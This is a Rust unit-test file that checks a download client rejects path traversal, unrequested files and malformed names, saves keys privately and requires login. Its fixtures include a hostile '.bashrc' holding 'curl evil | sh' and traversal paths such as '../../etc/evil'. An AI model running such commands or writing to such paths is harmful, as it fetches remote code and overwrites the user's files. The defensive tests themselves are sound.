//! Unit tests of the parent module (kept apart so that the module itself stays readable).

use super::*;

#[test]
fn private_key_detection() {
    assert!(looks_like_private_key("id_container", b"x"));
    assert!(looks_like_private_key("a/id_rsa", b"x"));
    assert!(!looks_like_private_key("id_rsa.pub", b"ssh-rsa AAA"));
    assert!(looks_like_private_key(
        "k",
        b"-----BEGIN OPENSSH PRIVATE KEY-----\n"
    ));
    assert!(!looks_like_private_key("notes.txt", b"hello"));
}

fn file(name: &str, data: &[u8]) -> DownloadedFile {
    DownloadedFile {
        name: name.into(),
        data: data.to_vec(),
    }
}

fn asked(paths: &[&str]) -> Vec<String> {
    paths.iter().map(|p| (*p).to_owned()).collect()
}

/// The names in `dir`, sorted.
fn listing(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .expect("read dir")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[test]
fn downloads_stay_inside_the_directory() {
    let dir = tempfile::tempdir().expect("tempdir");
    // The server names the entry with a path: it matches nothing asked for.
    let got = [file("../../etc/evil", b"x"), file("evil", b"y")];
    let saved = write_download(dir.path(), "s", &asked(&["a/evil"]), &got).expect("write");
    assert_eq!(saved.len(), 1);
    assert_eq!(saved[0].0, dir.path().join("evil"));
    assert_eq!(std::fs::read(dir.path().join("evil")).expect("read"), b"y");
    assert_eq!(listing(dir.path()), ["evil"]);
}

#[test]
fn a_file_is_saved_under_the_name_asked_for_never_the_servers() {
    // Asked for notes.txt; a hostile server answers with .bashrc.
    let dir = tempfile::tempdir().expect("tempdir");
    let got = [file(".bashrc", b"curl evil | sh")];
    let e = write_download(dir.path(), "s1", &asked(&["path/notes.txt"]), &got)
        .expect_err("notes.txt was not sent");
    assert_eq!(e.code(), crate::ErrorCode::FileNotFound, "{e}");
    assert!(e.to_string().contains("path/notes.txt"), "{e}");
    assert!(listing(dir.path()).is_empty(), "nothing is written");

    // The requested file plus an unrequested one: only the requested one is saved.
    let got = [file(".bashrc", b"evil"), file("notes.txt", b"hello")];
    let saved = write_download(dir.path(), "s1", &asked(&["path/notes.txt"]), &got).expect("write");
    assert_eq!(saved.len(), 1);
    assert_eq!(saved[0].0, dir.path().join("notes.txt"));
    assert_eq!(saved[0].1.data, b"hello");
    assert_eq!(listing(dir.path()), ["notes.txt"]);
}

#[test]
fn requested_names_must_be_plain_file_names() {
    let dir = tempfile::tempdir().expect("tempdir");
    let got = [file("..", b"x"), file(".", b"x"), file("a\\b", b"x")];
    for bad in ["..", "a/..", ".", "/", "", "a\\b", "x/a\\..\\b", "nul\0x"] {
        let e =
            write_download(dir.path(), "s", &asked(&[bad]), &got).expect_err(&format!("{bad:?}"));
        assert_eq!(e.code(), crate::ErrorCode::InvalidInput, "{bad:?}: {e}");
    }
    assert!(listing(dir.path()).is_empty());
    // A trailing slash or an absolute path still names the file.
    let got = [file("id_container", b"k"), file("b", b"B")];
    let saved = write_download(
        dir.path(),
        "s",
        &asked(&[&bai_api::id_container_path(), "a/b/"]),
        &got,
    )
    .expect("write");
    assert_eq!(saved.len(), 2);
    assert_eq!(listing(dir.path()), ["b", "id_container"]);
}

#[test]
fn duplicates_resolve_deterministically() {
    let dir = tempfile::tempdir().expect("tempdir");
    // The same path twice is one file; the server's repeat is ignored; the first entry of
    // a name wins.
    let got = [file("a.txt", b"first"), file("a.txt", b"second")];
    let saved = write_download(dir.path(), "s", &asked(&["a.txt", "a.txt"]), &got).expect("write");
    assert_eq!(saved.len(), 1);
    assert_eq!(
        std::fs::read(dir.path().join("a.txt")).expect("read"),
        b"first"
    );
    // Two paths with one base name would overwrite each other: refused, nothing written.
    let dir = tempfile::tempdir().expect("tempdir");
    let e = write_download(dir.path(), "s", &asked(&["x/a.txt", "y/a.txt"]), &got)
        .expect_err("same base name");
    assert_eq!(e.code(), crate::ErrorCode::InvalidInput, "{e}");
    assert!(listing(dir.path()).is_empty());
}

#[test]
fn a_download_without_files_is_an_error() {
    let dir = tempfile::tempdir().expect("tempdir");
    let e = write_download(dir.path(), "s", &asked(&["a", "b"]), &[]).expect_err("no files");
    assert_eq!(e.code(), crate::ErrorCode::FileNotFound, "{e}");
    let e = write_download(dir.path(), "s", &[], &[file("a", b"")]).expect_err("none asked");
    assert_eq!(e.code(), crate::ErrorCode::InvalidInput, "{e}");
    // One of two missing: nothing is written.
    let e = write_download(dir.path(), "s", &asked(&["a", "b"]), &[file("a", b"A")])
        .expect_err("b missing");
    assert!(e.to_string().contains(": b"), "{e}");
    assert!(listing(dir.path()).is_empty());
}

#[test]
fn keys_are_saved_private_by_the_requested_name() {
    let dir = tempfile::tempdir().expect("tempdir");
    let got = [file("id_container", b"not obviously a key")];
    let saved = write_download(dir.path(), "s", &asked(&["id_container"]), &got).expect("write");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(&saved[0].0)
            .expect("meta")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
    }
    let _ = saved;
}

#[test]
fn restore_without_login_is_not_logged_in() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut c = crate::Config::load_from(dir.path()).expect("load");
    c.profile_mut("p").endpoint = Some("http://127.0.0.1:9".into());
    let p = c
        .resolve("p", &Default::default(), &Default::default())
        .expect("resolve");
    let store: Arc<dyn SecretStore> = Arc::new(crate::MemoryStore::new());
    let e = Connection::restore(p.clone(), store.clone()).expect_err("not logged in");
    assert!(e.needs_login());
    store
        .set("p", SecretKind::LoginSession, &"id".into())
        .expect("set");
    assert!(Connection::restore(p, store).is_ok());
}
